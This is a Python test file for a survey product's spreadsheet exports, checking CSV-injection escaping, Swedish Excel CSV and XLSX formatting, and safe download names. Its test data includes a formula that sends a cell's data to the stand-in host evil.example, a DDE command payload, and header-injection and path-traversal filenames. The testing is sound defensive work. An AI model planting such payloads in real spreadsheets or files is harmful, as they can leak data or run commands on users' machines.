"""Spreadsheets the product writes never carry a live formula (issue 8, kind 4b), in Swedish Excel's dialect (issue 9).

OWASP's CSV-injection rule: a cell beginning with = + - @ tab or CR is
written with a single quote in front. Every CSV is semicolon-separated with
a decimal comma; XLSX holds native numbers with number formats, and text
stored as strings. One module writes every spreadsheet (app/spreadsheets.py);
the AST tests fail if another module could write one around it.
"""

from __future__ import annotations

import ast
import csv
import io
import math
import re
import unicodedata
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from app.accounts.models import Role
from app.campaigns.services import create_campaign
from app.db import db_session
from app.organisation.models import Programme, Provider
from app.spreadsheets import (
    COMMA_SEPARATED, XLSX_MIMETYPE, Column, Sheet, content_disposition, csv_response, csv_text, number_text,
    safe_cell, sheet_titles, xlsx_bytes, xlsx_response,
)
from app.surveys.services import load_builtin

from .conftest import ROOT, csrf_token_from, login, stockholm_today
from .forms import hidden_fields

ISSUE_EXAMPLE = '=HYPERLINK("http://evil.example/?d="&A2,"Öppna")'


def read_back(text: str) -> list[list[str]]:
    """What a CSV reader sees of a Swedish Excel file (";" between cells): the file as the browser saved it, BOM and all."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("typed, written", [
    (ISSUE_EXAMPLE, "'" + ISSUE_EXAMPLE),
    ("=1+1", "'=1+1"),
    ("+46 70 123 45 67", "'+46 70 123 45 67"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tNordljus", "'\tNordljus"),
    (" =1+1", "' =1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\u200b=1+1", "'\u200b=1+1"),
    ("\uff1dHYPERLINK(\"x\")", "'\uff1dHYPERLINK(\"x\")"),
    ('=cmd|" /C calc"!A0', '\'=cmd|" /C calc"!A0'),
    ("Nordljus AB", "Nordljus AB"),
    ("Ångström Coaching", "Ångström Coaching"),
    ("AB Bro-Coachning = bäst", "AB Bro-Coachning = bäst"),
    ("'=already quoted", "'=already quoted"),
    ("", ""),
    ("https://enkat.example.se/s/AbC-12", "https://enkat.example.se/s/AbC-12"),
    # A piece after the list separator of Swedish Excel (";") or of others (","), and
    # the small and minus forms (breaker's findings, 2026-11-30).
    ("Evil AB;=1+1", "'Evil AB;=1+1"),
    ("P, -2+3", "'P, -2+3"),
    ("\ufe661+1 AB", "'\ufe661+1 AB"),
    ("\u22122+3", "'\u22122+3"),
    ("Bro; Coachning, Nord", "Bro; Coachning, Nord"),
])
def test_a_cell_that_could_start_a_formula_gets_a_quote(typed, written):
    assert read_back(csv_text([[typed]])) == [[written]]


def test_numbers_dates_and_nothing():
    assert read_back(csv_text([[-5, 2.5, date(2026, 11, 30), None]])) == [["-5", "2,5", "2026-11-30", ""]]
    with pytest.raises(TypeError):
        safe_cell(True)
    with pytest.raises(TypeError):
        safe_cell(["=1"])


def _first_shown(text: str) -> str:
    # The first character that is neither white space nor invisible (categories Z*, C*).
    for character in text:
        if not (character.isspace() or unicodedata.category(character)[0] in "ZC"):
            return character
    return ""


#: The formula signs, written out here apart from app/spreadsheets.py: ASCII, full-width, small, and the minus sign.
FORMULA_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\u2212")


@given(st.lists(st.text(max_size=40), min_size=1, max_size=6))
def test_no_cell_read_back_can_start_a_formula(row):
    [cells] = read_back(csv_text([row]))
    assert len(cells) == len(row)
    for typed, cell in zip(row, cells):
        # Nothing is changed but a quote in front ...
        assert cell in (typed, "'" + typed)
        # ... which every cell that could run as a formula has, at its start or at the
        # start of a piece a program splitting on ";" or "," would make a cell of ...
        assert cell[:1] not in ("\t", "\r")
        assert _first_shown(cell) not in FORMULA_SIGNS
        if any(_first_shown(piece) in FORMULA_SIGNS for piece in re.split("[;,]", typed)):
            assert cell.startswith("'")
        # ... and text beginning with a letter or digit, with no list separator in it, never gets.
        if typed[:1].isalnum() and not re.search("[;,]", typed):
            assert cell == typed


@pytest.mark.parametrize("typed", ["0,=", "Bro;+1", "A, @x", "9;\u2212"])
def test_a_piece_after_a_list_separator_that_starts_a_formula_gets_the_quote(typed):
    # hypothesis's "0,=" (2026-12-01): a digit first, but "=" starts the cell a comma-splitting program makes.
    assert read_back(csv_text([[typed]])) == [["'" + typed]]


@pytest.fixture
def admin_client(app, client, make_user):
    make_user(Role.ADMIN, "root")
    login(client, "root")
    return client


def _add_through_the_staff_pages(client, provider_name: str, programme_code: str) -> None:
    page = client.get("/staff/organisation/").get_data(as_text=True)
    added = client.post("/staff/organisation/providers", data={
        "csrf_token": csrf_token_from(page), **hidden_fields(page, "/staff/organisation/providers"),
        "provider-name": provider_name,
    })
    assert added.status_code == 303, added.get_data(as_text=True)
    added = client.post("/staff/organisation/programmes", data={
        "csrf_token": csrf_token_from(page), **hidden_fields(page, "/staff/organisation/programmes"),
        "programme-code": programme_code, "programme-name": "Formler",
    })
    assert added.status_code == 303, added.get_data(as_text=True)


def _campaign_of(app, provider_name: str, programme_code: str) -> tuple[int, int, int]:
    with app.app_context():
        version = next(v for v in load_builtin(db_session) if v.key == "nacka-arbetsmarknad")
        provider = db_session.scalar(select(Provider).where(Provider.name == provider_name))
        programme = db_session.scalar(select(Programme).where(Programme.code == programme_code))
        campaign = create_campaign(
            db_session, name="Formler", survey_version=version,
            starts_on=stockholm_today() - timedelta(days=1), ends_on=stockholm_today() + timedelta(days=10),
            providers=[provider], programmes=[programme], languages=["sv", "ar"],
        )
        db_session.commit()
        return campaign.id, provider.id, programme.id


def _export(client, campaign_id: int, provider_id: int, programme_id: int, count: int = 2) -> list[list[str]]:
    page = client.get(f"/staff/campaigns/{campaign_id}").get_data(as_text=True)
    action = f"/staff/campaigns/{campaign_id}/invitations"
    made = client.post(action, data={
        **hidden_fields(page, action), "provider": provider_id, "programme": programme_id,
        "language": "ar", "count": count,
    })
    assert made.status_code == 303
    # The links page offers the CSV beside it: /staff/campaigns/<id>/links/<batch>.csv
    download = client.get(urlsplit(made.headers["Location"]).path + ".csv")
    assert download.status_code == 200
    assert download.mimetype == "text/csv"
    return read_back(download.get_data(as_text=True))


def test_the_issue_example_is_no_formula_in_the_links_csv(app, admin_client):
    _add_through_the_staff_pages(admin_client, ISSUE_EXAMPLE, "-SO+1")
    campaign_id, provider_id, programme_id = _campaign_of(app, ISSUE_EXAMPLE, "-SO+1")
    rows = _export(admin_client, campaign_id, provider_id, programme_id)
    assert rows[0] == ["provider", "programme", "language", "link"]
    assert len(rows) == 3
    for row in rows[1:]:
        assert row[0] == '\'=HYPERLINK("http://evil.example/?d="&A2,"Öppna")'
        assert row[1] == "'-SO+1"
        assert row[2] == "ar"
        assert row[3].startswith("https://enkat.example.se/s/")


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), min_size=1, max_size=60)
       .filter(lambda text: text.strip() != ""))
def test_any_provider_name_reaches_the_links_csv_as_text(app, world, admin_client, name):
    with app.app_context():
        provider = db_session.get(Provider, world.provider_ids[0])
        provider.name = name
        db_session.commit()
        # As stored: NFC, white space as typed names keep it (app/text.py typed_name).
        name = provider.name
    assume(name)
    [_, row] = _export(admin_client, world.campaign_id, world.provider_ids[0], world.programme_ids[0], count=1)
    assert row[0] in (name, "'" + name)
    assert _first_shown(row[0]) not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert row[0][:1] not in ("\t", "\r")


# --- No export may go around app/spreadsheets.py -------------------------------

#: Modules that write spreadsheets. csv may be imported for reading only.
WRITER_MODULES = ("csv", "openpyxl", "xlsxwriter", "xlwt", "pandas", "polars", "tablib", "pyexcel", "odf", "ezodf")
READING_NAMES = {
    "csv": {"reader", "DictReader", "Sniffer", "Error", "field_size_limit"},
    "openpyxl": {"load_workbook"},
}
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "ms-excel", "opendocument.spreadsheet", "text/tab-separated-values")


def spreadsheet_writers(source: str) -> list[str]:
    """What in `source` (Python code) could write a spreadsheet without app/spreadsheets.py."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found += [alias.name for alias in node.names if alias.name.split(".")[0] in WRITER_MODULES]
        elif isinstance(node, ast.ImportFrom) and node.module:
            top = node.module.split(".")[0]
            if top in WRITER_MODULES:
                allowed = READING_NAMES.get(node.module, set())
                found += [f"{node.module}.{alias.name}" for alias in node.names if alias.name not in allowed]
        elif isinstance(node, ast.Call) and node.args and isinstance(node.args[0], ast.Constant):
            called = ast.unparse(node.func)
            if called in ("importlib.import_module", "import_module", "__import__") and \
                    str(node.args[0].value).split(".")[0] in WRITER_MODULES:
                found.append(f"{called}({node.args[0].value!r})")
        elif isinstance(node, ast.Constant) and isinstance(node.value, str):
            found += [kind for kind in SPREADSHEET_TYPES if kind in node.value]
        elif isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel", "writerow", "writerows"):
            found.append(node.attr)
    return found


@pytest.mark.parametrize("source, flagged", [
    ("import csv", True),
    ("import csv as sheet", True),
    ("from csv import writer", True),
    ("from csv import DictWriter, reader", True),
    ("from openpyxl import Workbook", True),
    ("from openpyxl.workbook import Workbook", True),
    ("import xlsxwriter", True),
    ("importlib.import_module('csv')", True),
    ("Response(data, mimetype='text/csv')", True),
    ("frame.to_csv(buffer)", True),
    ("out.writerow(row)", True),
    ("from csv import reader, DictReader", False),
    ("from openpyxl import load_workbook", False),
    ("from .spreadsheets import csv_response", False),
    ("import json", False),
])
def test_the_check_itself(source, flagged):
    assert bool(spreadsheet_writers(source)) is flagged


def test_only_app_spreadsheets_writes_spreadsheets():
    shared = ROOT / "app" / "spreadsheets.py"
    offenders = {}
    for path in sorted((ROOT / "app").rglob("*.py")):
        if path != shared:
            found = spreadsheet_writers(path.read_text(encoding="utf-8"))
            if found:
                offenders[str(path.relative_to(ROOT))] = found
    assert offenders == {}, "write spreadsheets through app/spreadsheets.py"
    assert spreadsheet_writers(shared.read_text(encoding="utf-8"))  # the shared module is seen by the check


# --- CSV for Swedish Excel (issue 9) ------------------------------------------------

def test_a_small_table_byte_for_byte():
    rows = [
        ["Leverantör", "NKI", "n", "Svarsfrekvens"],
        ["Nordljus AB", 4.95, 12, Decimal("0.314")],
        ["Bro; Coachning", "..", 4, None],
        ['=1+1 "x"', 5.0, -3, 1e-05],
    ]
    # By hand: BOM EF BB BF; ";" between cells; text quoted, '"' doubled, the formula
    # given a "'"; numbers bare with a decimal comma, no exponent (1e-05 -> 0,00001);
    # None an empty field; CR LF after every line; ö is C3 B6 in UTF-8.
    expected = (
        b'\xef\xbb\xbf'
        b'"Leverant\xc3\xb6r";"NKI";"n";"Svarsfrekvens"\r\n'
        b'"Nordljus AB";4,95;12;0,314\r\n'
        b'"Bro; Coachning";"..";4;\r\n'
        b'"\'=1+1 ""x""";5,0;-3;0,00001\r\n'
    )
    assert csv_text(rows).encode("utf-8") == expected


def test_every_text_field_is_quoted_so_a_separator_inside_never_splits_it():
    # Swedish Excel splits on ";": inside quotes it does not.
    assert csv_text([["Evil AB;x", 5, "a"]]) == '\ufeff"Evil AB;x";5;"a"\r\n'
    # The comma-separated dialect, for a reader that wants it.
    assert csv_text([["Evil AB,x", 4.95, 5]], COMMA_SEPARATED) == '\ufeff"Evil AB,x",4.95,5\r\n'


@pytest.mark.parametrize("number, written", [
    (4.95, "4,95"), (5.0, "5,0"), (-0.5, "-0,5"), (1e20, "100000000000000000000"), (1e-05, "0,00001"),
    (Decimal("1E+1"), "10"), (Decimal("4.950"), "4,950"), (0, "0"), (-12, "-12"),
])
def test_numbers_have_a_decimal_comma_and_no_exponent(number, written):
    assert number_text(number, ",") == written


@pytest.mark.parametrize("number", [math.nan, math.inf, -math.inf, Decimal("NaN"), Decimal("Infinity")])
def test_no_spreadsheet_holds_nan_or_infinity(number):
    with pytest.raises(ValueError):
        csv_text([[number]])
    with pytest.raises(ValueError):
        xlsx_bytes([Sheet("s", [Column("x", "decimal2")], [[number]])])


def test_download_names_keep_swedish_letters_beside_an_ascii_one():
    # Ä is U+00C4 = C3 84 in UTF-8, ö U+00F6 = C3 B6, a space %20 (RFC 5987 percent-encoding).
    assert content_disposition("Resultat Älta ö.xlsx") == \
        "attachment; filename=\"Resultat Alta o.xlsx\"; filename*=UTF-8''Resultat%20%C3%84lta%20%C3%B6.xlsx"
    assert content_disposition('a"b%;c.csv') == "attachment; filename=\"a_b__c.csv\"; filename*=UTF-8''a%22b%25%3Bc.csv"
    for unsafe in ("", "../x.csv", "a\\b.csv", "a\r\nSet-Cookie: x.csv", "a\x00.csv"):
        with pytest.raises(ValueError):
            content_disposition(unsafe)
    response = csv_response("Svar för Bro.csv", [["a", 1]])
    assert response.headers["Content-Disposition"] == \
        "attachment; filename=\"Svar for Bro.csv\"; filename*=UTF-8''Svar%20f%C3%B6r%20Bro.csv"


# --- XLSX (issue 9) -----------------------------------------------------------------

def _workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def _sheet_xml(data: bytes) -> list[str]:
    """The raw XML of every worksheet in the file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(name).decode("utf-8") for name in sorted(archive.namelist())
                if name.startswith("xl/worksheets/sheet")]


SUMMARY = Sheet(
    title="Tabell 1",
    columns=[Column("Leverantör"), Column("NKI", "decimal1"), Column("NKI, två decimaler", "decimal2"),
             Column("n", "integer"), Column("Svarsfrekvens", "percent"), Column("Andel positiva", "percent1"),
             Column("Avslutad", "date")],
    rows=[
        ["Nordljus AB", 4.95, 4.95, 12, 0.31, 0.314, date(2026, 11, 30)],
        ["Bro Coachning", "..", "..", "..", Decimal("0.25"), "..", None],
        ["Ångström", "missing", None, Decimal("7"), 1, 0.0, date(2027, 1, 15)],
    ],
    notes=["Figures from fewer than 5 answers are not shown (..)."],
)


def test_numbers_are_native_numbers_with_swedish_showable_formats():
    sheet = _workbook(xlsx_bytes([SUMMARY]))["Tabell 1"]
    nordljus = [cell for cell in sheet[2]]
    assert [cell.value for cell in nordljus[:6]] == ["Nordljus AB", 4.95, 4.95, 12, 0.31, 0.314]
    assert [cell.data_type for cell in nordljus] == ["s", "n", "n", "n", "n", "n", "d"]
    assert isinstance(nordljus[3].value, int) and isinstance(nordljus[1].value, float)
    # Locale-independent codes: Swedish Excel shows 5,0 / 4,95 / 12 / 31 % / 31,4 % / 2026-11-30.
    assert [cell.number_format for cell in nordljus[1:]] == ["0.0", "0.00", "0", "0 %", "0.0 %", "yyyy-mm-dd"]
    # A date comes back as a date (openpyxl reads every date cell as a datetime at midnight).
    assert nordljus[6].is_date and nordljus[6].value == datetime(2026, 11, 30)
    # A Decimal is a number too: 0.25 as a float, 7 as an int in an integer column.
    assert sheet["E3"].value == 0.25 and sheet["D4"].value == 7 and isinstance(sheet["D4"].value, int)


def test_a_suppressed_figure_stays_text():
    sheet = _workbook(xlsx_bytes([SUMMARY]))["Tabell 1"]
    for coordinate, shown in [("B3", ".."), ("C3", ".."), ("D3", ".."), ("F3", ".."), ("B4", "missing")]:
        assert (sheet[coordinate].value, sheet[coordinate].data_type) == (shown, "s"), coordinate
    assert sheet["G3"].value is None and sheet["C4"].value is None


def test_header_bold_and_frozen_widths_reasonable_notes_below():
    sheet = _workbook(xlsx_bytes([SUMMARY]))["Tabell 1"]
    assert [cell.value for cell in sheet[1]] == [column.heading for column in SUMMARY.columns]
    assert all(cell.font.b for cell in sheet[1]) and not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFG"}
    # "NKI, två decimaler" is 18 characters: 18 x 1.1 (bold) + 2 = 21.8; "n" (1.1 + 2) rises to the minimum 6.
    assert widths["C"] == pytest.approx(21.8) and widths["D"] == 6
    assert all(6 <= width <= 60 for width in widths.values())
    # Three rows under the header, an empty row, then the note in column A.
    assert sheet.max_row == 6 and [cell.value for cell in sheet[5]] == [None] * 7
    assert sheet["A6"].value == "Figures from fewer than 5 answers are not shown (..)."


FORMULA_CELLS = ["=1+1", '\uff1dHYPERLINK("http://evil.example/?d="&A2,"Öppna")', "@SUM(A1)", "-2+3",
                 ISSUE_EXAMPLE, "+46 70 123 45 67", "Evil AB;=1+1", "\u200b=1+1", "\t=1+1"]


def test_formula_leading_text_is_a_plain_string_in_the_xml():
    sheet = Sheet("Formler", [Column("=HEADING()"), Column("n", "integer")],
                  [[text, ".."] for text in FORMULA_CELLS] + [["#N/A", 1]], notes=["=NOTE()"])
    data = xlsx_bytes([sheet])
    read = _workbook(data)["Formler"]
    assert read["A1"].value == "'=HEADING()"
    for row, typed in enumerate(FORMULA_CELLS, 2):
        cell = read.cell(row, 1)
        assert (cell.value, cell.data_type) == ("'" + typed, "s"), typed
    # Text that looks like an error value stays text, not Excel's #N/A.
    assert (read.cell(len(FORMULA_CELLS) + 2, 1).value, read.cell(len(FORMULA_CELLS) + 2, 1).data_type) == ("#N/A", "s")
    assert read.cell(read.max_row, 1).value == "'=NOTE()"
    [xml] = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    text_cells = re.findall(r'<c r="A\d+"[^>]*>', xml)
    assert len(text_cells) == 1 + len(FORMULA_CELLS) + 1 + 1  # header, formulas, #N/A, note
    assert all('t="inlineStr"' in cell for cell in text_cells), text_cells
    assert "<is><t>'=1+1</t></is>" in xml


def test_sheet_titles_follow_excels_rules_and_are_unique():
    titles = ["Resultat [2026]", "a" * 40, "resultat [2026]", "", "History", "'Bro'", "Q1: NKI/n?", "b" * 40, "B" * 40]
    expected = [
        "Resultat 2026",        # [ ] become spaces, runs of space one, ends trimmed
        "a" * 31,               # cut to 31
        "resultat 2026 (2)",    # the first one's name in another case
        "Sheet 4",              # empty: its position
        "History 5",            # Excel reserves "History"
        "Bro",                  # no apostrophe first or last
        "Q1 NKI n",             # : / ? become spaces
        "b" * 31,
        "B" * 27 + " (2)",      # 27 + 4 = 31
    ]
    assert sheet_titles(titles) == expected
    data = xlsx_bytes([Sheet(title, [Column("x")], [["y"]]) for title in titles])
    assert _workbook(data).sheetnames == expected


@pytest.mark.parametrize("column, value, error", [
    (Column("x"), 5, TypeError),                          # a number in a text column
    (Column("x", "integer"), 4.5, ValueError),            # a fraction shown as 5
    (Column("x", "integer"), True, TypeError),
    (Column("x", "decimal1"), date(2026, 1, 1), TypeError),
    (Column("x", "date"), datetime(2026, 1, 1, 12), TypeError),  # a moment: convert to the municipality's day first
    (Column("x", "date"), 45000, TypeError),
])
def test_a_value_of_the_wrong_kind_is_refused(column, value, error):
    with pytest.raises(error):
        xlsx_bytes([Sheet("s", [column], [[value]])])


def test_malformed_workbooks_are_refused():
    with pytest.raises(ValueError):
        Column("x", "percentage")
    with pytest.raises(ValueError):
        xlsx_bytes([])
    with pytest.raises(ValueError):
        xlsx_bytes([Sheet("s", [Column("x")], [["a", "b"]])])  # more cells than columns


def test_text_xml_cannot_hold_is_replaced_not_fatal():
    data = xlsx_bytes([Sheet("s", [Column("Leverantör")], [["Nord\x01ljus"]])])
    assert _workbook(data)["s"]["A2"].value == "Nord\ufffdljus"


def test_xlsx_download():
    response = xlsx_response("Resultat Älta.xlsx", [SUMMARY])
    assert response.mimetype == XLSX_MIMETYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == \
        "attachment; filename=\"Resultat Alta.xlsx\"; filename*=UTF-8''Resultat%20%C3%84lta.xlsx"
    assert _workbook(response.get_data())["Tabell 1"]["B2"].value == 4.95
